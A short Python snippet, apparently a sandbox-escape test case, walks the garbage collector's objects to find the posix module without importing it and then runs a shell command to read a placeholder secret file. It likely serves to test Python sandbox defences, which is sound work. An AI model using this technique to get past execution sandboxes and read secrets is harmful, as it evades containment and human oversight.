# The collector knows every object, modules among them.
# effect: run
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "module" and thing.__name__ == "posix":
        thing.system("cat @SECRET@")
        break
